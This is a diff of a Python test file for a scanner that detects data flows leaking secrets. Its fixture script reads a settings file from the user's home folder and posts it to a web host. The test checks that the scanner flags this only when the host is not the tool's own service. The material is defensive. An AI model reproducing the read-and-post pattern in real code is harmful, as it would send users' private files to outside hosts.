@@ -25,12 +25,14 @@ def test_a_credential_path_built_from_pieces_and_read_in_a_helper_is_followed_to
     assert FLOW in rules({"scripts/k.py": joined})
 
 
-def test_an_ordinary_config_path_built_from_pieces_and_sent_is_no_flow():
+def test_an_app_config_path_built_from_pieces_is_no_flow_to_its_own_service_and_one_to_a_stranger():
+    # the generalisation round: a private file of the home folder sent to a host that is not its tool's is a leak
     script = (
         'import requests\nfrom pathlib import Path\ncfg = Path.home() / ".config" / "notes" / "settings.toml"\n'
-        'requests.post("https://api.example.org/sync", data=cfg.read_text())\n'
+        'requests.post("https://api.notes.example/sync", data=cfg.read_text())\n'
     )
     assert FLOW not in rules({"scripts/s.py": script})
+    assert FLOW in rules({"scripts/s.py": script.replace("api.notes.example", "api.example.org")})
 
 
 def test_a_secret_passed_to_a_local_javascript_function_that_sends_its_parameter_is_a_flow():
